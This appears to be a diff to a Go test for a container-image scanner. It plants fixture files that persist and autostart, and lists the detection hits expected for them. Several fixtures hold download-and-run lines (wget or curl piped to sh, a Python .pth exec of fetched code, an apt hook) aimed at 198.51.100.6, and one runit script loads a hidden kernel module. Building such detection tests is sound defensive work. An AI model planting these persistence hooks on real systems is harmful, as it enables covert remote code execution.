@@ -164,5 +164,27 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "persistence-point", path: "/etc/profile.d/locale-fix.sh", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/systemd/system/cleanup.service", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/cron.daily/backup", layer: 1})
+
+	// Autostart beyond cron, units and init scripts, each read whatever it
+	// is called: a supervisord program, Alpine's crontab, a Python .pth
+	// start-up line, an apt hook fetching and running code, a runit run
+	// script loading a module; a logrotate script, setuptools' own .pth,
+	// an XDG entry, an entrypoint.d script and a periodic run-parts are not.
+	add("test/t-autostart-more", nil, nil, one(
+		ent{name: "etc/supervisor/conf.d/sync.conf", body: "[program:sync]\ncommand=/bin/sh -c \"wget -qO- http://198.51.100.6/s | sh\"\n"},
+		ent{name: "etc/crontabs/root", body: "*/15 * * * * run-parts /etc/periodic/15min\n*/30 * * * * curl -s http://198.51.100.6/c | sh\n"},
+		ent{name: "usr/local/lib/python3.11/site-packages/zz-init.pth", body: "import os; exec(__import__('urllib.request').request.urlopen('http://198.51.100.6/p').read())\n"},
+		ent{name: "usr/local/lib/python3.11/site-packages/distutils-precedence.pth", body: "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"},
+		ent{name: "etc/apt/apt.conf.d/00hook", body: "APT::Update::Pre-Invoke {\"curl -fsS http://198.51.100.6/a | sh\";};\n"},
+		ent{name: "etc/sv/agent/run", mode: 0o755, body: "#!/bin/sh\nexec 2>&1\nmodprobe xt_hidden\nexec /usr/local/bin/agent\n"},
+		ent{name: "etc/logrotate.d/nginx", body: "/var/log/nginx/*.log {\n postrotate\n  [ -s /run/nginx.pid ] && kill -USR1 $(cat /run/nginx.pid)\n endscript\n}\n"},
+		ent{name: "etc/xdg/autostart/notes.desktop", body: "[Desktop Entry]\nExec=/usr/bin/notes --hidden\n"},
+		ent{name: "docker-entrypoint.d/20-envsubst.sh", mode: 0o755, body: "#!/bin/sh\nenvsubst < /etc/t > /etc/o\n"}),
+		hit{rule: "autostart-fetches-code", path: "/etc/supervisor/conf.d/sync.conf", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/etc/crontabs/root", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/usr/local/lib/python3.11/site-packages/zz-init.pth", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/etc/apt/apt.conf.d/00hook", layer: 1},
+		hit{rule: "kernel-module-loaded-at-start", path: "/etc/sv/agent/run", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/xdg/autostart/notes.desktop", layer: 1})
 	return out
 }
